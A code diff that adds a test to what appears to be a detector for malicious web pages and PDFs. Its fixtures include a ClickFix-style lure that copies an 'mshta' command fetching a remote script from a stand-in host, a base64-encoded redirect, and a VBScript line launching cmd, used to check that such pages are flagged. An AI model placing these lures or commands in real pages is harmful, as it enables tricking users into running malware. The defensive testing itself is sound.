@@ -266,6 +266,22 @@ test('a page that only leads on, or hides where its password goes, is told; a pa
   assert.deepEqual(traits((await look('a.html', plain))[0]), [])
 })
 
+test('a page that has its reader paste a command, or leads on by encoded text, is told; a copy button is not', async () => {
+  const clickfix =
+    '<html><p>Press Windows + R, then Ctrl + V, Enter</p><script>navigator.clipboard.writeText("mshta https://a.example.net/x")</script></html>'
+  assert.match(detail((await look('a.html', clickfix))[0], 'html-clipboard') ?? '', /^mshta/)
+  const hidden =
+    '<html><p>「ファイル名を指定して実行」を開き、貼り付けてください</p><script>const c=k();document.execCommand("copy")</script></html>'
+  assert.deepEqual(traits((await look('a.html', hidden))[0]), ['html-clipboard'])
+  const address = Buffer.from('https://a.example.net/?e=').toString('base64')
+  const encoded = `<html><script>location.href=atob("${address}")+"sato"</script></html>`
+  assert.match(detail((await look('a.html', encoded))[0], 'html-redirect') ?? '', /^https:\/\/a\.example\.net/)
+  const copies = '<html><button>copy</button><script>navigator.clipboard.writeText(document.title)</script></html>'
+  assert.deepEqual(traits((await look('a.html', copies))[0]), [])
+  const shell = '<html><script language="vbscript">CreateObject("WScript.Shell").Run "cmd"</script></html>'
+  assert.ok(traits((await look('a.html', shell))[0]).includes('script-call'))
+})
+
 test('a PDF script that saves a carried file and opens it is a launch; one that counts fields is not', async () => {
   const pdf = (js: string) =>
     `%PDF-1.7\n1 0 obj\n<</Names<</JavaScript 2 0 R>>>>\nendobj\n2 0 obj\n<</S/JavaScript/JS(${js})>>\nendobj\n%%EOF`
